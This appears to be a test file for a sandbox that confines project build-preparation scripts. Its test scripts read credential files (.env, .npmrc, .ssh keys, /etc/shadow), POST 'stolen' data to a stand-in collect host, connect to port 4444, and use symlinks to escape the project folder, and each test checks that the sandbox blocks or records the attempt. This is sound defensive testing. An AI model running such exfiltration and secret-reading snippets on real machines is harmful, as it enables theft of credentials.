import assert from 'node:assert/strict';
import { chmod, mkdir, readdir, readFile, symlink, writeFile } from 'node:fs/promises';
import type { RequestListener } from 'node:http';
import { dirname, join } from 'node:path';
import { describe, test } from 'node:test';
import { inspect } from 'node:util';
import { digestOf, type Fault, hexOf, homeAt, isFault, type World } from '#kernel';
import { testWorld } from '#kernel/testing';
import { openTestUpstream, type TestUpstream } from '#enclave/testing';
import { readHomeLedger } from '#ledger';
import { nodeFiles } from '#system';
import { namespacesHere, temporaryFolder } from '#system/testing';
import { createSide } from '#trust';
import type { CaptureOutput } from './operations.ts';
import { captureVerb } from './verbs/capture.ts';

const { skip } = await namespacesHere();
const SECRET = 'p1anted-secret-41d0';
type After = { after(fn: () => Promise<void> | void): void };

interface Bench {
  readonly folder: string;
  readonly home: string;
  readonly user: string;
  readonly upstream: TestUpstream;
  /** Writes a file of the project. */
  put(path: string, text: string): Promise<void>;
  /** sallyport.yaml whose one preparation is a module of Node that makes `made`. */
  prepare(source: string, more?: string, makes?: string): Promise<void>;
  run(over?: Partial<World>, input?: { unconfined?: boolean }): Promise<CaptureOutput>;
  /** Predicates of what the ledger knows of preparations, with their subjects. */
  records(): Promise<{ subject: readonly { name: string; digest: { sha256: string } }[]; predicate: unknown }[]>;
}

async function bench(t: After, handler: RequestListener = (_, response) => response.end('upstream')): Promise<Bench> {
  const root = await temporaryFolder(t);
  const folder = join(root, 'a project');
  const user = join(root, 'user');
  const home = join(folder, '.sallyport');
  await mkdir(folder);
  await mkdir(user);
  const upstream = await openTestUpstream(handler);
  t.after(() => upstream.close());
  await writeFile(join(root, 'ca.pem'), upstream.authority);
  await createSide(nodeFiles, homeAt(home), {
    site: 'outside',
    purpose: 'one-person',
    clock: { now: () => Date.parse('2026-11-22T06:00:00Z') },
  });
  const env = {
    PATH: process.env['PATH'],
    HOME: user,
    SSL_CERT_FILE: join(root, 'ca.pem'),
    SECRET_OF_THE_USER: SECRET,
    // Where the tools are unpacked that a machine lacks.
    XDG_CACHE_HOME: process.env['XDG_CACHE_HOME'] ?? join(process.env['HOME'] ?? '/root', '.cache'),
    ...upstream.env,
  };
  const put = async (path: string, text: string): Promise<void> => {
    await mkdir(dirname(join(folder, path)), { recursive: true });
    await writeFile(join(folder, path), text);
  };
  return {
    folder,
    home,
    user,
    upstream,
    put,
    async prepare(source, more = '', makes = 'made') {
      await put('make.mjs', source);
      await put(
        'sallyport.yaml',
        `sallyport: "1.0"\nname: test\ntargets:\n  linux: { os: linux, arch: amd64 }\nprepare:\n  - { run: [node, make.mjs], makes: ${makes}${more} }\ninputs:\n  - files: ${makes}\n`,
      );
    },
    run: (over = {}, input = {}) => captureVerb.run(input, testWorld(nodeFiles, folder, { env, ...over })),
    async records() {
      const records: Awaited<ReturnType<Bench['records']>> = [];
      if ((await nodeFiles.look(homeAt(home).ledger)) === undefined) return records;
      const view = await readHomeLedger(nodeFiles, homeAt(home));
      for await (const { happening } of view.records(0)) {
        if (happening?.predicateType === 'sallyport/prepared/v1') records.push(happening);
      }
      return records;
    },
  };
}

async function fault(act: Promise<unknown>): Promise<Fault> {
  try {
    await act;
  } catch (error) {
    assert.ok(isFault(error), inspect(error));
    return error;
  }
  return assert.fail('it did not fail');
}

/** Nothing of a run is left in the home or the project. */
async function assertClean({ folder, home }: Bench, made: readonly string[] = []): Promise<void> {
  const names = await readdir(join(home, 'capture')).catch(() => [] as string[]);
  assert.deepEqual(
    names.filter((name) => name.startsWith('prepare-')),
    [],
  );
  const own = ['.sallyport', 'make.mjs', 'sallyport.yaml', 'sallyport.lock', ...made];
  assert.deepEqual(
    (await readdir(folder)).filter((name) => !own.includes(name)),
    [],
  );
}

describe('confined preparations', { skip }, () => {
  test('what is made comes back, and the ledger says from where, with digests', { skip }, async (t) => {
    const b = await bench(t, (request, response) => {
      if (request.url === '/tool.tgz?sig=1') return void response.writeHead(302, { location: '/real' }).end();
      response.end('the bytes');
    });
    await b.prepare(
      `import { writeFileSync } from 'node:fs';
       writeFileSync('made', await (await fetch('https://registry.example.test/tool.tgz?sig=1')).text());
       writeFileSync('beside', 'never');`,
    );
    const first = await b.run();
    assert.equal(await readFile(join(b.folder, 'made'), 'utf8'), 'the bytes');
    const [prepared] = first.prepared;
    assert.equal(first.prepared.length, 1);
    assert.equal(prepared?.confined, true);
    assert.equal(prepared?.digest, digestOf('the bytes'));
    assert.deepEqual(
      prepared?.requests.map(({ url, redirects, digest, outcome }) => ({ url, redirects, digest, outcome })),
      [
        {
          url: 'https://registry.example.test/tool.tgz',
          redirects: ['https://registry.example.test/real'],
          digest: digestOf('the bytes'),
          outcome: 'answered',
        },
      ],
    );
    assert.deepEqual(prepared?.attempts, []);
    const [record, ...others] = await b.records();
    assert.deepEqual(others, []);
    assert.deepEqual(record?.subject, [
      { name: 'made', digest: { sha256: hexOf(digestOf('the bytes')) } },
      { name: 'sallyport.yaml', digest: { sha256: hexOf(digestOf(await readFile(join(b.folder, 'sallyport.yaml')))) } },
    ]);
    const { ledger: _, ...told } = prepared!;
    assert.deepEqual(record?.predicate, { project: 'test', ...JSON.parse(JSON.stringify(told)) });
    await assertClean(b, ['made']);

    const second = await b.run();
    assert.deepEqual(second.prepared, []);
    assert.equal((await b.records()).length, 1);
  });

  test('it sees the project without secrets, and nothing else of the user', { skip }, async (t) => {
    const b = await bench(t);
    for (const path of ['.git/config', 'sub/.git/config', '.env', '.npmrc', 'sub/.netrc', '.ssh/id'])
      await b.put(path, SECRET);
    await b.put('sub/shown.txt', 'shown');
    await writeFile(join(b.user, 'token'), SECRET);
    await symlink(join(b.user, 'token'), join(b.folder, 'link'));
    await b.prepare(
      `import { execFileSync } from 'node:child_process';
       import { existsSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
       const keys = (folder) => existsSync(folder) ? readdirSync(folder).map((name) => read(folder + '/' + name)).join(' ') : '';
       const read = (path) => { try { return readFileSync(path, 'utf8'); } catch { return ''; } };
       const seen = [
         JSON.stringify(process.env),
         ...['.git/config', 'sub/.git/config', '.env', '.npmrc', 'sub/.netrc', '.ssh/id', 'link'].map(read),
         ...${JSON.stringify([join(b.user, 'token'), join(b.folder, 'sub/shown.txt'), join(b.folder, '.env')])}.map(read),
         ...readdirSync(process.env.HOME),
         read('/proc/1/environ'),
         keys(${JSON.stringify(join(b.home, 'keys'))}),
         read('/etc/shadow'),
       ];
       writeFileSync('made', JSON.stringify({ shown: read('sub/shown.txt'), seen, uid: process.getuid(), files: readdirSync('.').sort() }));`,
    );
    const output = await b.run();
    const made = await readFile(join(b.folder, 'made'), 'utf8');
    const { shown, seen, files } = JSON.parse(made) as { shown: string; seen: string[]; uid: number; files: string[] };
    assert.equal(shown, 'shown');
    assert.doesNotMatch(made, new RegExp(SECRET));
    const names = await readdir(join(b.home, 'keys'));
    assert.notDeepEqual(names, []);
    for (const name of names) {
      const key = (await readFile(join(b.home, 'keys', name), 'utf8')).trim();
      assert.equal(seen.at(-2)?.includes(key), false, name);
      // Where the machine lets somebody watch, something stands in its place, and whoever reads that is told of.
      const told = output.prepared[0]?.attempts.some((one) => one['path'] === join(b.home, 'keys', name));
      assert.equal(told, seen.at(-2) !== '', name);
    }
    assert.equal(seen.at(-1), '');
    assert.deepEqual(files, ['link', 'make.mjs', 'sallyport.yaml', 'sub']);
  });

  test("with 'reads' it sees what is named and nothing else", { skip }, async (t) => {
    const b = await bench(t);
    await b.put('a/one.txt', '1');
    await b.put('a/two.txt', '2');
    await b.put('b/three.txt', '3');
    await b.prepare(
      `import { readdirSync, writeFileSync } from 'node:fs';
       writeFileSync('made', readdirSync('.', { recursive: true }).sort().join(' '));`,
      ', reads: [make.mjs, a/two.txt]',
    );
    await b.run();
    assert.equal(await readFile(join(b.folder, 'made'), 'utf8'), 'a a/two.txt make.mjs');
  });

  test('a home under another name is not seen, and what is not there is a fault', { skip }, async (t) => {
    const b = await bench(t);
    await createSide(nodeFiles, homeAt(join(b.folder, 'second')), {
      site: 'other',
      purpose: 'one-person',
      clock: { now: () => Date.parse('2026-11-22T06:00:00Z') },
    });
    const list = `import { readdirSync, writeFileSync } from 'node:fs'; writeFileSync('made', readdirSync('.').sort().join(' '));`;
    await b.prepare(list, ', reads: [make.mjs, absent/file]');
    const error = await fault(b.run());
    assert.equal(error.code, 'capture.prepare-failed');
    assert.match(error.message, /absent on the way is no folder/);
    await b.prepare(list, ', reads: [make.mjs, absent]');
    assert.match((await fault(b.run())).message, /cannot be read \(ENOENT\)/);
    await b.prepare(list);
    await b.run();
    assert.equal(await readFile(join(b.folder, 'made'), 'utf8'), 'make.mjs sallyport.yaml');
    await assertClean(b, ['made', 'second']);
  });

  test('nothing that it leaves leads out of its folder when it is taken over', { skip }, async (t) => {
    const b = await bench(t);
    await writeFile(join(b.user, 'token'), SECRET);
    const token = JSON.stringify(join(b.user, 'token'));
    for (const [source, makes, says] of [
      [`symlinkSync(${token}, 'made')`, 'made', 'a link'],
      [`mkdirSync('made'); writeFileSync('made/a', 'a'); symlinkSync(${token}, 'made/b')`, 'made', 'a link'],
      [`symlinkSync(${JSON.stringify(b.user)}, 'deep')`, 'deep/token', 'no folder'],
      [`symlinkSync('/etc', 'deep')`, 'deep/passwd', 'no folder'],
      [`mkdirSync('made'); execFileSync('mkfifo', ['made/pipe'])`, 'made', 'a pipe'],
    ] as const) {
      await b.prepare(
        `import { mkdirSync, symlinkSync, writeFileSync } from 'node:fs'; import { execFileSync } from 'node:child_process'; ${source}`,
        '',
        makes,
      );
      const error = await fault(b.run());
      assert.equal(error.code, 'capture.prepare-failed', source);
      assert.match(error.message, new RegExp(says), source);
      await assertClean(b, ['deep']);
    }
  });

  test('of a file only bytes and whether it can be run are kept', { skip }, async (t) => {
    const b = await bench(t);
    await b.prepare(
      `import { chmodSync, linkSync, mkdirSync, writeFileSync } from 'node:fs';
       mkdirSync('made/deep', { recursive: true });
       writeFileSync('made/run', 'x'); chmodSync('made/run', 0o6777);
       writeFileSync('made/deep/data', 'y'); chmodSync('made/deep/data', 0o666);
       linkSync('made/run', 'made/twin');`,
    );
    const output = await b.run();
    const look = async (path: string) => (await nodeFiles.look(join(b.folder, 'made', path)))?.mode;
    assert.deepEqual(await Promise.all(['run', 'twin', 'deep/data'].map(look)), [0o755, 0o755, 0o644]);
    const line = (text: string, path: string): string => `${hexOf(digestOf(text))}  1  ${path}\n`;
    const listing = line('y', 'deep/data') + line('x', 'run') + line('x', 'twin');
    assert.equal(output.prepared[0]?.digest, digestOf(listing));
  });

  test('a link in the project itself is not followed either', { skip }, async (t) => {
    const b = await bench(t);
    await symlink(b.user, join(b.folder, 'out'));
    await b.prepare(
      `import { mkdirSync, rmSync, writeFileSync } from 'node:fs';
       rmSync('out'); mkdirSync('out'); writeFileSync('out/made', 'x');`,
      '',
      'out/made',
    );
    const error = await fault(b.run());
    assert.match(error.message, /no folder/);
    assert.deepEqual(await readdir(b.user), []);
  });

  test('what fails says what was not allowed, and the ledger keeps it', { skip }, async (t) => {
    const b = await bench(t);
    await b.prepare(
      `import { connect } from 'node:net';
       const answer = await fetch('https://collect.example.test/x', { method: 'POST', body: 'stolen' });
       await new Promise((done) => connect(4444, '203.0.113.5').on('error', done).on('close', done));
       console.error('status', answer.status);
       process.exit(3);`,
    );
    const error = await fault(b.run());
    assert.equal(error.code, 'capture.prepare-failed');
    assert.match(error.message, /ended with 3/);
    assert.match(error.message, /POST https:\/\/collect\.example\.test\/x: POST with a body is not declared/);
    assert.match(error.message, /203\.0\.113\.5:4444/);
    assert.deepEqual(b.upstream.tunnels, []);
    const [record] = await b.records();
    assert.deepEqual(
      record?.subject.map(({ name }) => name),
      ['sallyport.yaml'],
    );
    const { requests, attempts } = record!.predicate as {
      requests: { outcome: string }[];
      attempts: { port?: number }[];
    };
    assert.deepEqual(
      requests.map(({ outcome }) => outcome),
      ['refused'],
    );
    assert.equal(
      attempts.some(({ port }) => port === 4444),
      true,
    );
    await assertClean(b);
  });

  test("the machine's registry settings reach it without their secrets", { skip }, async (t) => {
    const seen: string[] = [];
    const b = await bench(t, (request, response) => {
      seen.push(`${request.headers.host}${request.url} ${request.headers.authorization ?? '-'}`);
      response.end('x');
    });
    await writeFile(
      join(b.user, '.npmrc'),
      [
        'registry=https://registry.example.test/npm/',
        '@team:registry=https://team.example.test/',
        `//registry.example.test/npm/:_authToken=${SECRET}`,
        `https-proxy=${b.upstream.route.httpsProxy}`,
        `cafile=${join(dirname(b.folder), 'ca.pem')}`,
      ].join('\n'),
    );
    await b.prepare(
      `import { readFileSync, writeFileSync } from 'node:fs';
       const { npm_config_registry: registry, npm_config_userconfig: file } = process.env;
       const team = /@team:registry=(.*)/.exec(readFileSync(file, 'utf8'))[1];
       for (const url of [registry + 'a', team + 'b', 'https://other.example.test/c']) await fetch(url);
       writeFileSync('made', JSON.stringify(process.env));`,
      ', needs: [npm]',
    );
    await b.run();
    assert.deepEqual(seen, [
      `registry.example.test/npm/a Bearer ${SECRET}`,
      'team.example.test/b -',
      'other.example.test/c -',
    ]);
    assert.doesNotMatch(await readFile(join(b.folder, 'made'), 'utf8'), new RegExp(SECRET));
  });

  test('where namespaces are forbidden it is a fault, unless it is told to run unconfined', { skip }, async (t) => {
    const b = await bench(t);
    const fake = join(b.user, 'bin');
    await mkdir(fake);
    await writeFile(join(fake, 'unshare'), '#!/bin/sh\necho unshare: Operation not permitted >&2; exit 1\n');
    await chmod(join(fake, 'unshare'), 0o755);
    const env = { PATH: `${fake}:${process.env['PATH']}`, HOME: b.user, SEEN: 'by the command' };
    await b.prepare(`import { writeFileSync } from 'node:fs'; writeFileSync('made', process.env.SEEN ?? 'nothing');`);
    const error = await fault(b.run({ env }));
    assert.equal(error.code, 'capture.not-confined');
    assert.match(error.message, /Operation not permitted/);
    assert.match(error.fix, /--unconfined/);
    await assertClean(b);
    assert.deepEqual(await b.records(), []);

    const output = await b.run({ env }, { unconfined: true });
    assert.equal(await readFile(join(b.folder, 'made'), 'utf8'), 'by the command');
    assert.equal(output.prepared[0]?.confined, false);
    assert.match(captureVerb.show(output, plainStyle), /unconfined: what it asked is not known/);
    const [record] = await b.records();
    assert.equal((record!.predicate as { confined: boolean }).confined, false);
  });

  test('stopped half-way nothing is left, and what a killed run left is cleared away', { skip }, async (t) => {
    const b = await bench(t);
    await b.prepare(
      `import { writeFileSync } from 'node:fs'; writeFileSync('made', 'half'); await fetch('https://registry.example.test/'); setTimeout(() => {}, 300_000);`,
    );
    const stop = new AbortController();
    const running = b.run({ signal: stop.signal });
    running.catch(() => undefined);
    for (let i = 0; i < 200 && b.upstream.tunnels.length === 0; i++) await new Promise((done) => setTimeout(done, 50));
    assert.equal(b.upstream.tunnels.length, 1);
    stop.abort();
    await assert.rejects(running, { name: 'AbortError' });
    await assertClean(b);
    // Of a process that is gone.
    await mkdir(join(b.home, 'capture/prepare-4194303-abc'), { recursive: true });
    await b.prepare(`import { writeFileSync } from 'node:fs'; writeFileSync('made', 'whole');`);
    await b.run();
    assert.equal(await readFile(join(b.folder, 'made'), 'utf8'), 'whole');
    await assertClean(b, ['made']);
  });
});

const plainStyle = {
  bold: String,
  dim: String,
  good: String,
  bad: String,
  warn: String,
  width: 100,
};
